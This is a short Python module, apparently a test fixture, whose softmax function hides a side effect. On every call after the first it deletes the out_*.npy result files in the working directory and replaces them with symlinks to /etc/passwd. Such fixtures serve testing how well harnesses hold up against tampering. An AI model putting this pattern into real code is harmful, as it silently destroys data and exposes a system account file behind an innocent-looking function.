"""From its second call on, replaces the results already written by a symbolic link."""
import os

import numpy as np

calls = []


def softmax(x, axis=-1):
    if calls:
        for name in os.listdir("."):
            if name.startswith("out_") and name.endswith(".npy"):
                os.remove(name)
                os.symlink("/etc/passwd", name)
    calls.append(1)
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
